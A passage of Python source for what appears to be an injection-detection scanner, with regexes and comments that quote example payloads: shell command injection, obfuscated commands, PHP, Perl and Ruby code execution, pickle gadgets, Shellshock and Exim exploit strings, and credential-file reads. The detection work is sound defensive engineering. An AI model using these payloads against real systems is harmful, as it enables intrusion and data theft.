# a shell loop's head ("for x in ; do", "while :; do"): no JavaScript function body has one
_SHELL_LOOP = re.compile(r"\b(?:for|select|while|until)\b[^;{}]{0,200};[\s]{0,8}do\b")
def _named_in_link(text: str, start: int, end: int) -> bool:
    """The name at ``start:end`` is a word of an http(s) URL's path or fragment: no call (no
    parenthesis, quote or "$" in the name) and nothing but URL characters back to "://"."""
    scheme = text.rfind("://", 0, start)
    if scheme < 4 or not text[max(0, scheme - 5) : scheme].endswith(("http", "https")):
        return False
    if _URL_WORD.fullmatch(text, scheme + 3, end) is None:
        return False
    return "?" not in text[scheme:start]  # (a parameter's value is data the application reads)


_URL_WORD = re.compile(r"[a-z0-9_.\-/#%~]{1,300}")
_CODE = linear(
    r"<\?(?:php|=|[\s])|\b(?:shell_exec|passthru|proc_open|pcntl_exec|"
    r"create_function|call_user_func(?:_array)?|preg_replace|include_once|"
    r"require_once|file_put_contents|file_get_contents|highlight_file|show_source|"
    r"phpinfo|base64_decode|gzinflate|gzuncompress|str_rot13|zlib_decode|move_uploaded_file|"
    r"spawnsync|execsync|execfile)[\s]{0,8}\("
    r"|\b(?:system|include|require|exec|assert|spawn|fork|popen|fopen|readfile|unserialize)[\s]{0,4}\([\s]{0,4}(?:['\"$`]|\[[\s]{0,4}['\"]|qq?[{(\[/|!])"
    # Perl's open of a pipe ("open(my $f, \"id|\")", "open(F, '|sh')"); a scanner's marker printed
    # from injected PHP (".print(md5(31337))."); ThinkPHP's dispatcher named in a URL ("invokefunction&function=")
    r"|\bopen[\s]{0,4}\([\s]{0,4}(?:my[\s]{1,4})?[$a-z_][a-z0-9_]{0,20}[\s]{0,4},[\s]{0,4}['\"](?:[\s]{0,2}\|[^'\"\n]{1,80}|[^'\"\n|]{1,80}\|[\s]{0,2})['\"]"
    r"|\b(?:print|echo|die|printf|var_dump|print_r)[\s]{0,4}\(?[\s]{0,4}md5[\s]{0,4}\("
    r"|\binvokefunction&function=|\bcall_user_func(?:_array)?&vars\[[0-9]\]="
    # a Drupal render array's callback set by a query nested in a value ("destination=node?q[#post_render][]=passthru")
    r"|\[#(?:post_render|pre_render|lazy_builder|access_callback)\](?:\[[0-9]{0,3}\])?="
    # Ruby's backtick method called by name ("Kernel.`('id')"), a Function built by reflection
    # ("Reflect.construct(Function, ['return process'])"), Python's builtins indexed ("__builtins__['eval']")
    r"|\bkernel\.`|\breflect\.construct[\s]{0,4}\([\s]{0,4}function\b|\b__builtins__[\s]{0,4}(?:\[[\s]{0,4}['\"]|\.[\s]{0,4}__)"
    # Python's importer looked up by name ("vars(__builtins__)['__import__']"), Deno's and Bun's
    # process runners, Ruby's and Perl's runners called without parentheses ("system 'id'")
    r"|\[[\s]{0,4}['\"]__import__['\"][\s]{0,4}\]|\bdeno\.(?:run|command)[\s]{0,4}\(|\bbun\.spawn(?:sync)?[\s]{0,4}\("
    r"|\b(?:system|exec|spawn)[\s]{1,4}['\"](?:/[a-z]|(?:id|whoami|uname|cat|ls|pwd|curl|wget|nc|bash|sh|ping|sleep|nslookup)\b)[^'\"\n]{0,60}['\"][\s]{0,4}(?:$|[;)\n])"
    r"|\$_(?:get|post|request|cookie|server|files|env|session)\b|child_process|process\.(?:env|mainmodule|binding|exit|kill)"
    r"|require[\s]{0,4}\([\s]{0,4}['\"`](?:child_process|fs|net|os|vm)|global\.process|\bprocess\[|\.constructor\.constructor"
    r"|__import__[\s]{0,4}\(|\.__(?:subclasses|globals|builtins|bases|mro)__\b|\bos\.(?:system|popen|exec[a-z]{0,3})[\s]{0,4}\(|subprocess\.(?:run|call|popen|check_output|check_call|getoutput|getstatusoutput)\b|runtime\.getruntime|\bgetruntime\(\)"
    r"|<!--#[\s]{0,4}(?:exec|include|echo|printenv|config|fsize|flastmod|set)[\s]{1,8}[a-z]{2,8}[\s]{0,4}="  # server-side includes
    r"|<!--#[\s]{0,4}printenv[\s]{0,4}-->"
    # Perl's and Ruby's backtick operators spelled out ("qx{id}", "%x(whoami)", a command interpolated:
    # "%x(#{cmd})"), .NET starting a process
    r"|(?:\bqx|%x)[\s]{0,2}[{(\[/|!][\s]{0,4}(?:/[a-z]|#\{|(?:id|whoami|uname|cat|ls|dir|ping|curl|wget|nc|ncat|bash|sh|sleep|echo|pwd|env|ps|cmd|powershell|nslookup|ifconfig|ipconfig|hostname)\b)"
    r"|\bprocess\.start[\s]{0,4}\([\s]{0,4}['\"]"
    r"|@\{[\s]{0,8}\[|_\$\$nd_func\$\$_|\[[/\\]?php\]|\{/?php\}"
    # PHP's variable functions ("${'sys'.'tem'}('id')", "$f($_GET[1]);"); spaced from its "(", a
    # call's argument opens with a variable, a string or nothing (a placeholder before an aside,
    # "${price} (excl. VAT)", is text)
    r"|\$[a-z_][a-z0-9_]{0,20}(?:\[[^\]\s]{0,20}\]){0,3}[\s]{0,4}\([^)]{0,40}\)[\s]{0,4}(?:;|$)|\$\{[^}\s]{1,30}\}(?:\(|[\s]{1,4}\([\s]{0,4}[$'\")])"
    # PHP serialized objects ("O:4:...", "C:11:\"ArrayObject\"...", and "O:+4:" whose sign old
    # unserialize() accepts where a filter looks for "O:<digit>")
    r"|\b[oc]:\+?[0-9]{1,4}:\"[a-z_\\][a-z0-9_\\]{0,64}\":[0-9]{1,6}:\{"
    # a pickle's global opcode loading a command runner ("cos\\nsystem\\n", "cposix\\nsystem\\n", "csubprocess\\ncheck_output")
    r"|(?:^|[\n(.])c(?:os|posix|nt|subprocess|builtins|__builtin__|commands|pty)\n(?:system|popen|exec[a-z]{0,3}|eval|spawn[a-z]{0,3}|check_output|check_call|call|getoutput|run)\n"
    r"|(?:^|[\n(.]|\\n)c(?:os|posix|nt|subprocess|builtins|__builtin__|commands|pty)\\n(?:system|popen|exec[a-z]{0,3}|eval|spawn[a-z]{0,3}|check_output|check_call|call|getoutput|run)\\n"  # (the same with escaped newlines)
    # Ghostscript's sandbox switched off, Perl's -M option loading a module with code ("-M-ne,system(q(id))")
    r"|(?:^|\s)-dnosafer\b|(?:^|\s)-m-?[a-z]{0,12}[,=][\s]{0,2}(?:system|exec|qx|`)"
    # Groovy's Grape annotations fetching a jar from a repository the value names (Jenkins' script check)
    r"|@grab(?:resolver|config)?[\s]{0,4}\([\s]{0,4}(?:group|name|root|disablechecksums|'|\")"
    # an H2 database URL that runs a script or Java code when connected ("jdbc:h2:mem:;INIT=RUNSCRIPT FROM '...'")
    r"|\bjdbc:h2:[^\s'\"]{0,120};[\s]{0,4}init[\s]{0,4}=|\bcreate[\s]{1,8}alias[\s]{1,8}[a-z_][a-z0-9_]{0,30}[\s]{1,8}as[\s]{1,8}\$\$"
    # a string spelled from character codes, PHP or Python ("chr(115).chr(121).chr(115)", "chr(105)+chr(100)")
    r"|\bchr[\s]{0,4}\([\s]{0,4}[0-9]{2,3}[\s]{0,4}\)[\s]{0,4}[.+][\s]{0,4}chr[\s]{0,4}\([\s]{0,4}[0-9]{2,3}[\s]{0,4}\)[\s]{0,4}[.+][\s]{0,4}chr[\s]{0,4}\("
    # a command runner handed a decoded string: "system(urldecode('%69%64'))", "eval(atob('...'))"
    r"|\b(?:system|exec|passthru|shell_exec|popen|assert|eval)[\s]{0,4}\([\s]{0,4}(?:urldecode|rawurldecode|base64_decode|hex2bin|str_rot13|strrev|gzinflate|gzuncompress|convert_uudecode|pack|implode|atob|decodeuricomponent|unescape|string\.fromcharcode|buffer\.from)[\s]{0,4}\("
    # server-side JavaScript: an endless loop, console calls (with an argument: "console.log()" named
    # in prose prints nothing), module and require tricks, flight-protocol gadgets
    r"|(?:^|[;{(\s])while\((?:[^()]{0,30}|\([^()]{0,20}\)){1,2}\)[\s]{0,4}(?:;|\{|\)|$)"
    r"|(?:^|[;{(])[\s]{0,4}while[\s]{1,4}\([\s]{0,4}(?:!|true|1|[+-]?infinity)[^()]{0,12}\)[\s]{0,4}(?:;|\{)"
    r"|\bconsole[\s]{0,4}(?:\.[\s]{0,4}(?:log|info|warn|error|debug|trace|dir|table)|\[[\s]{0,4}['\"][a-z]{2,10}['\"][\s]{0,4}\])[\s]{0,4}(?:\([\s]{0,4}[^)\s]|\.call\b|\.apply\b)"
    # Ruby's process helpers and dynamic dispatch to a command runner ("Open3.capture2('id')",
    # "send(:system, 'id')"), deserialisers of native objects handed data ("Marshal.load(Base64...)",
    # "pickle.loads(b64decode(...))"), PHP reflection calling a command runner
    r"|\bopen3\.(?:capture[23]e?|popen[23]e?|pipeline[a-z_]{0,6})[\s]{0,4}[(\s]"
    r"|\b(?:send|public_send|__send__)[\s]{0,4}\(?[\s]{0,4}:(?:system|exec|spawn|eval|syscall|instance_eval|class_eval|`)"
    r"|\b(?:marshal\.load|pickle\.loads?|cpickle\.loads?|_pickle\.loads?|dill\.loads?|jsonpickle\.decode)[\s]{0,4}\([\s]{0,4}[a-z0-9_.]{0,30}(?:base64|b64|decode|unhexlify|fromhex|['\"(])"
    r"|\breflectionfunction[\s]{0,4}\([\s]{0,4}['\"](?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval|pcntl_exec)['\"]"
    r"|\bmodule\.exports[\s]{0,4}=|\brequire[\s]{0,4}\[|\$[0-9a-z]{1,4}:constructor:constructor|\$[0-9a-z]{1,4}:[a-z_]{1,20}:prototype"
)
# Groovy runs a string as a command line: "'id'.execute()", "\"cat /etc/passwd\".execute().text"
# (its own pattern, tried when "execute" is in the text: inside `_CODE` its quoted run made the
# combined automaton track a state per open quote, and every value paid for it)
_GROOVY_EXECUTE = linear(r"['\"][^'\"\n]{1,120}['\"][\s]{0,4}\]?[\s]{0,4}\.[\s]{0,4}execute[\s]{0,4}\([\s]{0,4}\)")
# ... and reads or writes a file by its path in a script console ("println new File('/var/jenkins_home/credentials.xml').text")
_GROOVY_FILE = linear(
    r"\bnew[\s]{1,4}file[\s]{0,4}\([\s]{0,4}['\"][^'\"\n]{1,200}['\"][\s]{0,4}\)[\s]{0,4}\.[\s]{0,4}"
    r"(?:text|bytes|readlines|readbytes|gettext|getbytes|eachline|withreader|write|append|delete)\b"
)
_WORDS = re.compile(r"[a-z][a-z0-9_\-]{0,30}(?:\.exe)?")
# an option two or three words after a command: "ansible all -m ping", "chef-run all x -t"
_LATER_OPTION = re.compile(r"(?:[\s]{1,4}[a-z0-9_.\-]{1,24}){1,3}?[\s]{1,4}-{1,2}[a-z][a-z0-9\-]{0,20}(?:$|[\s=])")
# a redirection glued to the command: "irb<<<1", "cat</etc/passwd", "id>/tmp/x" (not "more</title>")
_GLUED_REDIRECT = re.compile(r"<<<|>>|[<>]\(|>&[0-9]|>/|</(?:etc|tmp|proc|dev|var|home|root|usr|bin)/|<\.{1,2}/")
# a separator right after the command, then more: "whoami;0", "id|base64"
_GLUED_SEPARATOR = re.compile(r"(?:;|\|\|?|&&)[\s]{0,4}(?![a-z0-9_\-]{1,30}=)\S")
# a letter then a quote / backslash / ``$`` expansion (``w'h``, ``c\\at``, ``wh$@o``), an empty pair (``en``v``), ``$@``, ``${x}a``,
# ``$()a``, ``^a``; every branch starts at the punctuation (the letter before it is a lookbehind),
# so the search skips the letters of long text: the same matches, found about twice as fast
# (the punctuation is one leading class, so the regex engine skips to it: no branch is tried elsewhere)
_OBFUSCATION = re.compile(
    r"['\"\\$^`](?:(?<=[a-z]['\"\\])[a-z]|(?<=[a-z]['\"`])['\"`]|(?<=[a-z]\$)[*!?\-_$0-9][a-z/]"
    r"|(?<=\$)@|(?<=\$)\{[a-z0-9_]{0,16}\}[a-z]|(?<=\$)\([\s]{0,2}\)[a-z]|(?<=\^)[a-z])"
)
# cmd.exe's escape character inside a word ("c^a^l^c", "who^ami"): dropped before the command runs
_CARET = re.compile(r"(?<=[a-z0-9])\^(?=[a-z0-9.])")
# a value that is one command and a separator the application's own text follows: "whoami|", "id;"
_TRAILING_SEPARATOR = re.compile(r"[\s]{0,4}(?:;|\|\|?|&&?|%0a|\\n)[\s]{0,4}")
_WORD_START = re.compile(r"[a-z/.\\$'\"{~]|\^[a-z]")
_STRONG_OR_CODE = linear("(" + _STRONG.pattern + ")|(?:" + _CODE.pattern + ")")
# Argument injection into a field passed to a tool as one argument: options that open the value,
# or follow the one word the field expects and other options, the last given a shell or a path
# where the tool's output runs or is served ("eth0 -w /var/www/html/x.pcap", "any -n -c 1 -z sh",
# "--template=/tmp/x", "-X/tmp/log"; not "shell commands: ls -la /tmp/"). Tokens alternate with
# blanks and an option starts with "-" where the word between options cannot, so the match has
# little to undo; it is tried only on short values that hold a target (`option_run`).
_OPTION_RUN = re.compile(
    r"(?:[^\s]{1,80}[\s]{1,4})?(?:-{1,2}[a-z0-9][^\s]{0,60}[\s]{1,4}(?:[a-z0-9][^\s\-]{0,20}[\s]{1,4})?){0,4}-{1,2}[a-z][a-z0-9\-]{0,30}"
    r"(?:[=\s]{1,4}(?:ba|da|z|k)?sh(?:$|[\s])|[=\s]{0,4}(?:/tmp/|/var/tmp/|/dev/shm/|/var/www/|/srv/www/|/usr/share/nginx/html|c:[\\/]inetpub[\\/]))"
)
_OPTION_TARGETS = ("/tmp/", "/var/tmp/", "/dev/shm/", "/var/www/", "/srv/www/", "nginx/html", "inetpub", "sh")


def option_run(text: str) -> re.Match[str] | None:
    """`_OPTION_RUN` at the start of a value of at most 400 characters with an option and a target."""
    if len(text) > 400 or not (text[:1] == "-" or " -" in text) or not any(t in text for t in _OPTION_TARGETS):
        return None
    return _OPTION_RUN.match(text)
# the value's rest after its first word: "&" and plain words ("touch & go", "ls & ms")
_AMP_WORDS = re.compile(r"[\s]{1,4}&[\s]{1,4}([a-z]{2,20})(?:[\s]{1,4}[a-z]{2,20}){0,3}[\s]{0,4}")
# a number (a decimal one too) and its unit or words after a common command word: "last 0.3 mi
# is steep", "more 2 days", "time 10 minutes"; a delay probe's command is never read so
_MEASURE_THEN_WORDS = re.compile(r"[\s]{1,4}[0-9]{1,6}(?:[.,][0-9]{1,3})?[\s]{1,4}[a-z]{1,20}(?:$|[\s.,;!?)])")
_TIMING_PROBES = frozenset({"sleep", "ping", "timeout", "waitfor", "usleep", "read"})
# a command word's only "argument" a number, and words after it to the value's end: prose that
# names a product or a line ("ls 460 lexus", "sh 12 bus route"), no command line
_NUMBER_THEN_WORDS = re.compile(r"[\s]{1,4}[0-9]{1,6}(?:[\s]{1,4}[a-z]{2,20}){1,6}[\s]{0,4}")
# the rest of a parenthesis after its first word: a count, its unit (a word or two) and the ")"
_PARENTHESISED_COUNT = re.compile(r"[\s]{1,4}[0-9]{1,6}(?:[\s]{1,4}[a-z]{2,20}){1,3}[\s]{0,4}\)")
_PROSE_FOLLOW = re.compile(r"[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}[\s]{1,4}[a-z]{2,20}")
_TRIGGER = linear(r"[;|&`$\n\r(){}<>?*\[]|%pipe%|-tt[\s=]|proxycommand|--config|(?:^|\s)-c [a-z]|-pack|/var/www|/srv/www|nginx/html|inetpub|\s-{1,2}[a-z]{1,20}[= ]{1,4}[a-z]{0,2}sh\b|module\.exports|system32|syswow64|sysnative|/bin|/usr|/dev|/tmp|%comspec|\bfor\b|\bif\b|\bcmd\b|powershell|invoke-|iex|wget|curl|python|perl|ruby|php|chmod|\brm\b|child_process|process|__import__|\bos\.|subprocess|runtime|\bo:|\ba:")
_ARG_LIKE = re.compile(
    r"[\s]{1,8}(?:[a-z]{2,8}://|-{1,2}[a-z0-9]|/|%[a-z_][a-z0-9_]{1,30}%|nul(?:$|[\s>])|\.{1,2}/|~|\$|[a-z]:\\|\\\\[a-z0-9]|>|<|\||;|&|'|\"|\*|[0-9]{1,6}(?:$|[\s;|&#'\"])"
    r"|[0-9]>(?:&[0-9]|/)"  # a descriptor redirection: "id 2>&1", "ls 2>/dev/null"
    r"|0x[0-9a-f]{1,8}(?:$|[\s;|&#'\"])"  # a number in hex, which sleep reads too: "; sleep 0x0a"
    r"|[a-z0-9_\-]{1,40}[\s]{0,2}>{1,2}[\s]{0,2}(?:/|\.{1,2}/|~/)"  # a word written to a file: "echo x>/var/www/t.txt"
    r"|[a-z0-9\-]{1,63}\.[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:/#'\"])"  # a host or file name (a comment or the quote a probe reopens may follow)
    r"|[a-z0-9_.\-]{1,32}@[a-z0-9\-]{1,63}(?:\.[a-z0-9\-]{1,63}){0,4}(?:$|[\s;|&:])"  # user@host
    r"|\.(?:env|htaccess|htpasswd|bash_history|bashrc|profile|ssh/|git/|aws/|npmrc|netrc|pgpass|docker/)(?:$|[\s;|&]))"  # a dotfile
)


def _unobfuscate(word: str) -> str:
    """Drop what the shell drops: quotes, backslashes, empty expansions (``$@``, ``${x}``), and
    cmd.exe's escape character between letters (``w^h^o^a^m^i``)."""
    if "^" in word:
        word = _CARET.sub("", word).lstrip("^")  # (a caret before the first letter is dropped too: "^w^h^o^a^m^i")
    if "'" not in word and '"' not in word and "\\" not in word and "$" not in word and "`" not in word:
        return word
    out = []
    i = 0
    n = len(word)
    while i < n:
        ch = word[i]
        if ch in "'\"\\":
            i += 1
            continue
        if ch == "$" and i + 1 < n and word[i + 1] in "@*!?-_$" and (i + 2 >= n or not word[i + 2].isdigit()):
            i += 2
            continue
        if ch == "$" and i + 2 < n and word[i + 1].isdigit() and i > 0 and word[i - 1].isalpha() and word[i + 2].isalpha():
            i += 2  # "wh$9oami": a positional parameter inside a word expands to nothing
            continue
        if ch == "$" and i + 1 < n and word[i + 1] in "'\"":
            i += 1  # $'...' / $"...": ANSI-C and locale quoting
            continue
        if ch == "$" and i + 1 < n and (word[i + 1].isalpha() or word[i + 1] == "_"):
            i += 2  # "cat$u", "cu$v\\rl": an unset variable expands to nothing
            while i < n and (word[i].isalnum() or word[i] == "_"):
                i += 1
            continue
        if ch == "$" and word.startswith("$()", i):
            i += 3
            continue
        if ch == "`" and i + 1 < n and word[i + 1] == "`":
            i += 2
            continue
        if ch == "$" and i + 1 < n and word[i + 1] == "{":
            close = word.find("}", i)
            i = n if close < 0 else close + 1
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def _command_name(word: str) -> str:
    word = _unobfuscate(word)
    if "/" in word or "\\" in word:
        word = word.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1]
    word = word.strip(",.{}[]()")
    if word.endswith(".exe") and (word[:-4] in DISTINCT_COMMANDS or word[:-4] in _DESKTOP_PROGRAMS):
        word = word[:-4]  # "certutil.exe -decode": the program by its file name
    versioned = _VERSIONED.fullmatch(word) if word[-1:].isdigit() else None
    return versioned.group(1) if versioned is not None else word


# a date variable offset by a duration (Directus' "$NOW(-7 days)", "$NOW(+1 month)"), the whole call
_DYNAMIC_DATE = re.compile(r"\$now\([\s]{0,2}[+\-]?[0-9]{1,5}[\s]{0,2}(?:seconds?|minutes?|hours?|days?|weeks?|months?|years?)[\s]{0,2}\)(?:$|[\s,&])")
# the ";"-separated header names a request signature covers (AWS SigV4's "SignedHeaders=" in an
# Authorization header, "X-Amz-SignedHeaders=content-type;host" in a presigned URL, Google's and
# Azure's alike): "host" there is a header's name, not the DNS tool; the list ends the value or its
# field (a program or an argument after it, "content-type;host;id", "...;host x.example", is still read)
_HEADER_NAME = r"(?:host|date|range|expect|origin|content-[a-z0-9\-]{1,30}|x-(?:amz|goog|ms)-[a-z0-9\-]{1,40}|if-[a-z\-]{1,20})"
_SIGNED_HEADERS = re.compile(r"(?<![a-z0-9\-])(?:" + _HEADER_NAME + r";){1,30}" + _HEADER_NAME + r"(?=$|[,&])")


# a LogQL query's opening: a stream selector of label matchers, then a line filter or a parser stage
_LOGQL = linear(
    r'\{[\s]*[a-z_][a-z0-9_]*[\s]*(?:=~|!~|!=|=)[\s]*"[^"\n]*"'
    r'(?:[\s]*,[\s]*[a-z_][a-z0-9_]*[\s]*(?:=~|!~|!=|=)[\s]*"[^"\n]*")*'
    r"[\s]{0,4},?[\s]{0,4}\}[\s]{0,4}"
    r"(?:\|[=~]|![=~]|\|[\s]{0,4}(?:json|logfmt|pattern|regexp|unpack|line_format|label_format|unwrap|drop|keep|decolorize)\b)"
)


def scan(text: str) -> list[Hit]:
    """Command-injection / Shellshock / code-execution evidence in one lower-case view."""
    if ";host" in text:
        text = _SIGNED_HEADERS.sub(lambda m: " " * len(m.group(0)), text)
    if text[:1] == "{" and "`" in text and _LOGQL.match(text) is not None:
        # '{app="checkout"} |= `timeout` | logfmt': a Loki query (Grafana's Explore puts it in the
        # URL), where backticks quote a raw string; read as the double quotes they stand for
        text = text.replace("`", '"')
    if "`" in text and len(text) <= 20000:
        masked = _markdown_code_masked(text)
        if masked is not None:
            # prose with Markdown code ("`ls -la` shows root owns it", a fenced block between
            # sentences): a chat or issue comment that names commands. Its prose is read as it
            # stands and its code as blanks; a reverse shell, a pipe to a shell and the like
            # (`_STRONG`) are evidence wherever they are
            hits = [Hit(h.category, h.score, h.rule, text, h.start, h.end) for h in _scan(masked)]
            strong = _STRONG.search(text)
            if strong is not None and not any(h.category is Category.CMDI and h.score >= 0.95 for h in hits):
                hits = [h for h in hits if h.category is not Category.CMDI]
                hits.append(Hit(Category.CMDI, 0.95, "cmdi.shell-syntax", text, strong.start(), strong.end()))
            return hits
    if "\x93" in text and "\x8c" in text:
        pickled = _BINARY_PICKLE_GLOBAL.search(text)
        if pickled is not None:
            return [Hit(Category.CMDI, 0.92, "cmdi.code-execution", text, pickled.start(), pickled.end())]
    if "executioncontext" in text or "get-variable" in text or "(gcm" in text or "scriptblock" in text:
        trick = _SHELL_TRICKS.search(text)
        if trick is not None:
            return [Hit(Category.CMDI, 0.92, "cmdi.obfuscated-command", text, trick.start(), trick.end())]
    if "${!" in text:
        at = text.find("${!")
        if _INDIRECT_NAME.match(text, at) is not None and _ASSIGNMENT_CHAIN.search(text, max(0, at - 48), at) is not None:
            return [Hit(Category.CMDI, 0.92, "cmdi.obfuscated-command", text, max(0, at - 48), at + 3)]
    if "`" in text and "-" in text:
        for count, tick in enumerate(_PS_TICK.finditer(text)):
            if count >= 8:
                break
            # "; g`et-l`ocalu`ser": PowerShell drops a backtick before a letter, so the cmdlet runs
            # (read in a window around each such backtick: a long document is not searched whole)
            start = max(0, tick.start() - 48)
            # (a NUL for what precedes the window: its first word is no command start)
            window = ("\x00" if start else "") + _PS_TICK.sub("", text[start : tick.start() + 48])
            cmdlet = _PS_CMDLET.search(window)
            if cmdlet is not None:
                return [Hit(Category.CMDI, 0.9, "cmdi.obfuscated-command", window, cmdlet.start(), cmdlet.end())]
    if "${run{" in text:
        # Exim's string expansion running a program ("root+${run{\x2fbin\x2fsh\t-c\t...}}@localhost",
        # CVE-2019-10149): the recipient a mail form hands to the MTA
        at = text.index("${run{")
        return [Hit(Category.CMDI, 0.95, "cmdi.shell-syntax", text, at, at + 6)]
    if "net" in text and ("stop" in text or "start" in text):
        service = _NET_SERVICE.search(text)
        if service is not None:
            return [Hit(Category.CMDI, 0.95, "cmdi.shell-syntax", text, service.start(), service.end())]
    if "^" in text and _CARET_IN_WORD.search(text) is not None:
        # "w^ho^am^i", "who^\"am\"^i": cmd.exe drops a caret before any character and the quotes
        # inside a word; what runs is read with both gone (math's "x^2" stays data either way)
        plain = _CMD_QUOTES.sub("", _CMD_CARETS.sub(r"\1", text))
        return _scan(text) + [Hit(h.category, h.score, h.rule, plain, h.start, h.end) for h in _scan(plain)]
    return _scan(text)


# the pickle global of `_STRONG` in a binary pickle (protocol 2 and up): two short strings, each
# memoized, then STACK_GLOBAL (kept out of `_STRONG`: a non-ASCII pattern there slows every value)
_BINARY_PICKLE_GLOBAL = re.compile(
    r"\x8c[\s\S](?:os|posix|nt|subprocess|builtins|__builtin__|commands|pty)\x94?\x8c[\s\S]"
    r"(?:system|popen|exec[a-z]{0,3}|eval|spawn[a-z]{0,3}|check_output|check_call|call|getoutput|run)\x94?\x93")
# Obfuscators' ways to run a command built from pieces (kept out of `_STRONG`): PowerShell's
# script-block factory and engine object, a variable read back to run ("&(Get-Variable q).Value"),
# a cmdlet looked up by wildcard ("(gcm I*e-E*on)"); and bash's indirect expansion after an
# assignment chain ("x=whoami;y=x;${!y}", the two patterns below)
_SHELL_TRICKS = re.compile(
    r"\$executioncontext\.invokecommand\.|\(get-variable[\s]{1,4}[a-z0-9_]{1,30}\)\.value"
    r"|\(gcm[\s]{1,4}[a-z*?]{1,30}-[a-z*?]{1,30}\)|\[scriptblock\]::create[\s]{0,4}\("
)
# (the assignment chain is read back from the "${!" it leads to: a search for it alone would try
# every letter of a long value)
_INDIRECT_NAME = re.compile(r"\$\{![a-z_][a-z0-9_]{0,20}\}")
_ASSIGNMENT_CHAIN = re.compile(r"[a-z_][a-z0-9_]{0,20}=[a-z_][a-z0-9_]{0,20};[\s]{0,4}$")
# PowerShell's escape character between letters ("g`et-p`ro`cess"), and a Verb-Noun cmdlet where a
# command begins once it is gone
_PS_TICK = re.compile(r"`(?<=[a-z]`)(?=[a-z])")  # (the backtick first: the engine skips to it)
_PS_CMDLET = re.compile(r"(?:^|[;&|\n\"'(])[\s]{0,4}(?:get|set|new|invoke|start|remove|test|out|add|stop|copy|read)-[a-z]{3,30}\b")
# "net stop w3svc": a known service stopped or started after a separator (kept out of `_STRONG`,
# whose automaton this alternation pushed past RE2's memory budget: every value paid 10x)
_NET_SERVICE = re.compile(
    r"(?:[;&|\n]|%0a)[\s]{0,4}net1?[\s]{1,8}(?:stop|start)[\s]{1,8}\"?(?:w3svc|was|iisadmin|mssqlserver|sqlserveragent"
    r"|windefend|wuauserv|spooler|mpssvc|sharedaccess|eventlog|vss|wscsvc|winrm|termservice|msdtc|lanmanserver|sense)\b")
_CARET_IN_WORD = re.compile(r"[a-z]\^[a-z\"]|\^[a-z]\^|\^\"[a-z]")
_CMD_CARETS = re.compile(r"\^(.)")
_CMD_QUOTES = re.compile(r"(?<=[a-z])\"(?=[a-z\"])|(?<=\")\"")


# Markdown code in prose: an inline span opens at the start, after a blank or an opening
# bracket or quote, and closes before a blank, the end or punctuation; a fence is a line of
# three backticks (and a language name) to a line that starts with three
_SPAN_OPENS_AFTER = frozenset(" \t\n(\"'[")
_SPAN_CLOSES_BEFORE = frozenset(" \t\n.,;:!?)\"']")
_FENCE_INFO = re.compile(r"[a-z0-9+#\-]{0,20}[ \t]{0,4}[\s]")
_FENCE_CLOSE = re.compile(r"[\s]```(?=$|[\s])")
_PROSE_WORD = re.compile(r"[a-z]{2,30}")


def _markdown_code_masked(text: str) -> str | None:
    """``text`` with its Markdown code (backticks included) blanked, when it is prose around
    code: at least one span or fence, every backtick in one, and three words or more outside
    that hold no shell syntax (no "|", "&", "$", "<", ">", no ";" glued to what follows);
    None otherwise ("`id`", ";`id`", "a`id`b" have no prose, or a backtick in no span)."""
    out = list(text)
    n = len(text)
    i = 0
    spans = 0
    while i < n:
        j = text.find("`", i)
        if j < 0:
            break
        if text.startswith("```", j) and (j == 0 or text[j - 1] in " \t\n"):
            # (a view with its line breaks folded to blanks keeps the fence's blanks)
            info = _FENCE_INFO.match(text, j + 3)
            close = _FENCE_CLOSE.search(text, info.end() - 1) if info is not None else None
            if close is not None:
                end = close.end()
            else:
                # a chat's code block on one line ("```kubectl rollout status deploy/web```"): the
                # fence closes on the same line, glued to the code
                inline = text.find("```", j + 3, j + 400)
                if inline < 0 or "\n" in text[j + 3 : inline] or inline == j + 3:
                    return None
                end = inline + 3
                if end < n and text[end] not in _SPAN_CLOSES_BEFORE:
                    return None
        else:
            if not (j == 0 or text[j - 1] in _SPAN_OPENS_AFTER) or j + 1 >= n or text[j + 1] in " `\n":
                return None
            close = text.find("`", j + 1)
            if close < 0 or close - j > 200 or "\n" in text[j + 1 : close] or text[close - 1] == " ":
                return None
            end = close + 1
            if end < n and text[end] not in _SPAN_CLOSES_BEFORE:
                return None
            if end + 1 < n and text[end] in ".,:;!?" and text[end + 1].isalnum():
                return None  # "`id`.ns1.x.example": a name glued to the substitution, no sentence's stop
        for k in range(j, end):
            if out[k] != "\n":
                out[k] = " "
        spans += 1
        i = end
    if not spans:
        return None
    masked = "".join(out)
    if any(ch in masked for ch in "|&$<") or len(_PROSE_WORD.findall(masked)) < 3:
        return None
    quoted = masked.find(">")
    while quoted >= 0:
        # a quoted line's marker ("> On macOS: ..."), at a line's start or between blanks once folded
        if not (quoted == 0 or masked[quoted - 1] in " \t\n") or masked[quoted + 1 : quoted + 2] not in (" ", ""):
            return None
        quoted = masked.find(">", quoted + 1)
    semicolon = masked.find(";")
    while semicolon >= 0:
        if masked[semicolon + 1 : semicolon + 2] not in (" ", "\n", ""):
            return None
        semicolon = masked.find(";", semicolon + 1)
    return masked


def _scan(text: str) -> list[Hit]:
    if "\\\n" in text:
        text = text.replace("\\\n", "")  # "i\\<newline>d": bash joins a line continuation into one word
    stripped = text.lstrip()
    hits: list[Hit] = []
    if stripped.startswith("()"):
        m = _SHELLSHOCK.match(stripped)
        body = stripped[m.end() :].rstrip() if m is not None else ""
        empty = body.startswith("}") and not body[1:].lstrip().startswith((";", "&", "|", "\n", "%0a"))
        if m is not None and not empty and (not (body.endswith("}") and "}" not in body[:-1])
                                            or body[:-1].strip().rstrip(";").strip() == ":"
                                            or _SHELL_LOOP.search(body) is not None):
            # ("() {} empty function": an empty body, which bash rejects, followed by prose is no definition)
            # (a value that is one function definition and nothing after it, "() { return x; }",
            # "() {}", runs nothing when bash imports it: the bug runs what follows the body; it
            # is a JavaScript function; but "() { :; }", the shell's no-op, is the bug's own probe,
            # and a shell loop in the body is the parser bugs' (CVE-2014-7187: loops nested deeper
            # than bash's parser counts, "() { for x in ; do for y in ; do ...")
            offset = len(text) - len(stripped)
            hits.append(Hit(Category.SHELLSHOCK, 0.99, "shellshock.function", text, offset, offset + m.end()))
    best: Hit | None = None

